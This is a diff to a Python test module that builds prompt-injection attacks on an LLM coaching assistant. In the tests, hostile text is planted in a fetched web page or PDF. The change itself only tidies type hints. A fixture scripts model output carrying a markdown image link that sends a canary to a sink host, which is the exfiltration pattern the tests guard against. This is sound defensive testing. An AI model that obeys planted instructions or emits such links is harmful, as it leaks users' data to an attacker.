@@ -7,7 +7,7 @@ those of the security catalogue. Notes have `test_planted_notes.py`.
 
 from __future__ import annotations
 
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, Any
 
 import pytest
 
@@ -43,6 +43,7 @@ if TYPE_CHECKING:
     from coaching.llm.scripted import Scripted, Step
     from tests.coaching.conversation.conftest import StartEngine
     from tests.support.outside import Answering
+    from tests.support.planted import Weaken
 
 pytestmark = pytest.mark.usefixtures("loose_scripts")
 
@@ -62,23 +63,23 @@ LINKS = says(f"It says ![ok](http://{SINK}/p?d={CANARY}) and [sign in](http://{S
 OBEYS = says("Nothing there.")
 
 
-def on_a_page(words: str, obeys: Step, *weaken: object, orders: str = "\x00") -> Attack:
+def on_a_page(words: str, obeys: Step, *weaken: Weaken, orders: str = "\x00") -> Attack:
     html = f"<html><body><p>Budgeting 101</p>{words}</body></html>".encode()
     return _read(html, obeys, weaken, orders)
 
 
-def in_a_pdf(words: str, obeys: Step, *weaken: object, orders: str = "\x00") -> Attack:
+def in_a_pdf(words: str, obeys: Step, *weaken: Weaken, orders: str = "\x00") -> Attack:
     return _read(a_pdf(words), obeys, weaken, orders)
 
 
-def _read(page: bytes, obeys: Step, weaken: tuple[object, ...], orders: str) -> Attack:
+def _read(page: bytes, obeys: Step, weaken: tuple[Weaken, ...], orders: str) -> Attack:
     asks = "What does http://budget.test/101 say?"
-    return Attack((FETCH, obeys), weaken, asks, page=page, orders=orders)  # type: ignore[arg-type]
+    return Attack((FETCH, obeys), weaken, asks, page=page, orders=orders)
 
 
-def found(first: Step, *plays: Answering, obeys: Scripted, **more: object) -> Attack:
+def found(first: Step, *plays: Answering, obeys: Scripted, **more: Any) -> Attack:
     asks = "What am I entitled to?"
-    return Attack((first, obeys), asks=asks, found=plays, **more)  # type: ignore[arg-type]
+    return Attack((first, obeys), asks=asks, found=plays, **more)
 
 
 def result(description: str, title: str = "Benefits") -> Answering:
